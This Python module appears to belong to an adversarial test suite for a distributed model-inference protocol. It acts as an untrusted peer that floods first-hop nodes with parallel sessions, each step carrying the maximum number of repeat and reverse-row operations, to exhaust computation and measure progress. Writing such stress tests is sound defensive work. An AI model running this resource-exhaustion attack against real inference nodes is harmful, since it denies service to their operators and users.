"""Steps with as many row operations as a message may hold.

Sequences are multiplied, reordered and cropped again and again.
"""

from __future__ import annotations

import asyncio
import secrets

from attacks.target import Target, UntrustedPeer, untrusted_peer
from protocols.defaults import MAX_ROW_INDICES, MAX_ROWS
from protocols.errors import SwarmError
from protocols.ids import SessionId
from protocols.inference import Open, Step, StepSpec
from protocols.operations import Op, Repeat, Rows
from protocols.progress import Progress, ProgressRequest
from protocols.services import PROGRESS, SESSION
from protocols.tensors import WireTensor

SESSIONS = 4
PROMPT = 64
HIDDEN = 64


async def attack(target: Target) -> None:
    us = await untrusted_peer(target)
    target.on_attack()
    firsts = [number for number, (_, served) in enumerate(us.nodes) if served.span.start == 0]
    await asyncio.gather(*(_work(us, target, number) for number in firsts for _ in range(SESSIONS)))


async def _work(us: UntrustedPeer, target: Target, number: int) -> None:
    """One session after the other at one of the first hops, whose route ends there."""
    hop = us.hop(number)
    while True:
        session = secrets.token_bytes(16)
        try:
            channel = await us.peer.pool.channel(hop.peer, hop.addresses, hop.certificate)
            stream = await channel.stream(SESSION)
            await stream.send(Open(grant=us.grant([hop], session), index=0, dtype="float32").encode())
            await stream.send(_step(session, 0, (), 1, PROMPT).encode())
            await stream.send(_step(session, 1, (Repeat(MAX_ROWS),), MAX_ROWS, 1).encode())
            reverse = Rows(tuple(reversed(range(MAX_ROWS))))
            for step in range(2, 2_000):
                await stream.send(_step(session, step, (reverse,) * (MAX_ROW_INDICES // MAX_ROWS), MAX_ROWS, 0).encode())
                await asyncio.sleep(0.05)
                if step % 20 == 0:
                    request = ProgressRequest(session=SessionId(session), unit=hop.unit).encode()
                    computed = Progress.parse(await channel.unary(PROGRESS, request, 5.0)).computed
                    target.arrived["steps"] = max(target.arrived["steps"], computed - 2)  # of the longest session
        except SwarmError:
            await asyncio.sleep(0.2)


def _step(session: bytes, number: int, ops: tuple[Op, ...], rows: int, tokens: int) -> Step:
    shape = (rows * tokens, HIDDEN)
    payload = WireTensor(dtype="float32", shape=shape, codec="none", data=bytes(4 * rows * tokens * HIDDEN))
    return Step(
        session=SessionId(session), epoch=0, step=number, counts=(tokens,) * rows, ops=ops, payload=payload, spec=StepSpec(want=0)
    )
